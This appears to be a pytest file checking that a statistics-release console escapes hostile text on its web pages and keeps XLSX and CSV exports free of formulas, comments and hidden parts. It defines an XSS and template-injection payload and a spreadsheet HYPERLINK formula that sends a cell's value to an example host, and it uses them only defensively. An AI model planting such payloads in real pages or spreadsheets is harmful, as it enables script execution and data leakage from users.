"""Whoever writes words, or looks at what leaves the line, finds in it neither a script, nor a formula, nor more than what was released."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from datetime import date

import pytest
from flask import Flask
from msgspec.structs import replace
from openpyxl import load_workbook

from hotline import console
from tests.console.desk import SETTINGS, Desk
from tests.console.test_partners import put
from tests.released import release

SCRIPT = "\"><script>alert(1)</script><svg onload='alert(1)'>{{7*7}}"
FORMULA = '=HYPERLINK("https://example.org/?"&B2,"ici")'
HOST = "https://chiffres.example.org"


@pytest.fixture
def hostile(desk: Desk) -> Desk:
    """Whoever keeps the line, its contact, letters and notes are all written by somebody who means harm."""
    settings = replace(SETTINGS, press_url=f"{HOST}/chiffres", organisation=SCRIPT, figures_contact=SCRIPT)
    desk.install(settings)
    put(
        desk,
        replace(release("2026", 1), letter=FORMULA, released_by=SCRIPT),
        replace(release("2027-Q1", 2), letter=SCRIPT, released_by=FORMULA),
        replace(release("2027-Q2", 3, "withdrawn"), withdrawn_at=1_800_090_000, withdrawn_by=SCRIPT, note=SCRIPT),
    )
    desk.add_partner(organisation=SCRIPT)
    return desk


def harmless(markup: str) -> bool:
    """Nothing of what was written became markup, nor an attribute, nor was run by a template."""
    return not re.search(r"<script>alert|<svg onload|\{?49\}?<", markup) and SCRIPT in html.unescape(markup)


@pytest.mark.parametrize(
    ("alias", "path"),
    [
        ("rokia", "partners"),
        ("rokia", "partners?period=2026"),
        ("rokia", "partners/terms"),
        ("djeneba", "figures/2"),
        ("djeneba", "figures/3"),
    ],
)
def test_words_stay_words_on_pages(hostile: Desk, alias: str, path: str) -> None:
    """Of organisation, contact, letter, note and names."""
    browser = hostile.browser(alias)
    browser.open(f"/console/{path}")
    assert (200, True) == (browser.status, harmless(browser.raw))


def test_words_stay_words_on_the_press_page(hostile: Desk) -> None:
    """Of whoever keeps the line and whom to ask."""
    app = Flask("press", static_folder=None)
    console.install(app, hostile.room)
    assert harmless(app.test_client().get("/chiffres", base_url=HOST).get_data(as_text=True))


@pytest.mark.parametrize("number", [1, 2])
def test_no_cell_is_a_formula(hostile: Desk, number: int) -> None:
    """Neither in the workbook nor in the CSV, whoever let it out and under whatever letter; and there is no sheet, comment, name or
    link beside what is seen; nor when it was taken."""
    client = hostile.browser("rokia").client
    data = client.get(f"/console/partners/{number}.xlsx").data
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {"s", "n"} == {cell.data_type for cell in cells}
    assert [] == [cell for cell in cells if cell.comment or cell.hyperlink]
    assert {"visible"} == {sheet.sheet_state for sheet in book}
    assert ({}, {"General", "#,##0"}) == (dict(book.defined_names), {cell.number_format for cell in cells})
    parts = zipfile.ZipFile(io.BytesIO(data))
    assert {(2027, 1, 16)} == {part.date_time[:3] for part in parts.infolist()}
    assert {date(2027, 1, 16)} == {moment.date() for moment in (book.properties.created, book.properties.modified)}
    assert data == client.get(f"/console/partners/{number}.xlsx").data
    assert [] == [name for name in parts.namelist() if re.search("comment|external|vba|custom|calcChain|media", name)]
    assert not any(
        re.search(rb"<f>|hidden=|alert\(1\)<", parts.read(name)) for name in parts.namelist() if name.startswith("xl/worksheets")
    )
    rows = csv.reader(io.StringIO(client.get(f"/console/partners/{number}.csv").data.decode("utf-8-sig")))
    assert [] == [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_withdrawn_without_a_note(desk: Desk) -> None:
    """As after a restore, which brings no note back: it is said to be withdrawn all the same, and nothing of it is there."""
    put(desk, replace(release("2027-Q1", 1, "withdrawn"), withdrawn_at=1_800_090_000, withdrawn_by="line"))
    desk.add_partner()
    page = desk.browser("rokia").open("/console/partners")
    assert desk.say("partners.withdrawn_bare", period="1", number=1, date="")[-25:] in page
    assert "<table" not in page
